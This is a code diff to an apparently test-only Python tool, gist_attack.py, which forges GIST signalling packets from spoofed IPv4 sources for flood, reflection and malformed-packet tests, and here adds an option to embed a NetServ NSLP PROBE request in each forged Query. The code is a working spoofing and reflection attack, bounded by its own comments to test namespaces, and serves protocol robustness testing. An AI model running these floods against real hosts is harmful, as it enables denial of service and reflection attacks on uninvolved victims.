@@ -6,7 +6,8 @@ them as an attacker would: raw IPv4 with forged sources, many TCP connections,
 messages trickled a byte at a time. Only toward addresses inside the test's
 namespaces. Every mode is bounded in count and time and prints one summary line.
 
-  gist_attack.py spoof-flood TARGET COUNT SPOOF_NET     Queries from COUNT forged sources (S=1, NLI = source)
+  gist_attack.py spoof-flood TARGET COUNT SPOOF_NET [probe]  Queries from COUNT forged sources (S=1, NLI = source),
+                                                        with "probe": each carrying a NetServ NSLP PROBE request
   gist_attack.py reflect TARGET COUNT VICTIM SPOOF_SRC  Queries whose NLI names VICTIM (S=1 from us, S=0 from SPOOF_SRC)
   gist_attack.py malformed-reflect TARGET COUNT VICTIM  malformed GIST from VICTIM's (forged) address: each would earn an Error
   gist_attack.py listen ADDR SECONDS                    count GIST datagrams arriving at ADDR:270
@@ -51,9 +52,18 @@ def message(typ, body, s=True, r=False, hops=1, c=False):
     return struct.pack("!BBHHBB", 1, hops, len(body) // 4, NSLPID, (0x80 if c else 0) | typ, flags) + body
 
 
-def query(src, dst, nli_addr, peer_id, sid, s=True, validity_ms=30000):
+def query(src, dst, nli_addr, peer_id, sid, s=True, validity_ms=30000, nslp_data=None):
     body = mri(src, dst) + obj(1, sid) + nli(peer_id, nli_addr, validity_ms) + obj(5, os.urandom(4))
+    if nslp_data is not None:
+        body += obj(8, nslp_data)
     return message(QUERY, body, s=s, r=True, hops=32, c=True)
+
+
+def nslp_probe():
+    """A NetServ NSLP request (nsis/NSLP-FORMAT.md): version 1, kind request, length, request id,
+    one REQUEST-LINE TLV with method PROBE and no module (a PROBE of the whole node)."""
+    tlv = struct.pack("!HH", 1, 1) + b"\x03\0\0\0"
+    return struct.pack("!BBHII", 1, 1, 0, 12 + len(tlv), random.getrandbits(32)) + tlv
 
 
 def confirm(src, dst, nli_addr, peer_id, sid, cookie=None):
@@ -75,8 +85,9 @@ def ipv4_udp(src, dst, payload, sport=270, dport=270):
     return hdr + udp
 
 
-def spoof_flood(target, count, net):
+def spoof_flood(target, count, net, with_data=""):
     count = int(count)
+    data = nslp_probe() if with_data == "probe" else None
     hosts = ipaddress.ip_network(net)
     if hosts.num_addresses < count + 2:
         sys.exit("spoof network %s has fewer than %d addresses" % (net, count))
@@ -87,13 +98,13 @@ def spoof_flood(target, count, net):
     sent = 0
     for i in range(count):
         src = str(ipaddress.IPv4Address(base + i))
-        pkt = ipv4_udp(src, target, udp_magic(query(src, target, src, os.urandom(16), os.urandom(16))))
+        pkt = ipv4_udp(src, target, udp_magic(query(src, target, src, os.urandom(16), os.urandom(16), nslp_data=data)))
         try:
             raw.sendto(pkt, (target, 0))
             sent += 1
         except (BlockingIOError, OSError):
             time.sleep(0.001)          # the veth queue is full; a flood sender does not care, we only pace
-    print("spoof-flood: %d Queries from %d forged sources in %.1f s" % (sent, count, time.time() - t0))
+    print("spoof-flood: %d Queries%s from %d forged sources in %.1f s" % (sent, " with a PROBE" if data else "", count, time.time() - t0))
 
 
 def reflect(target, count, victim, spoof_src):
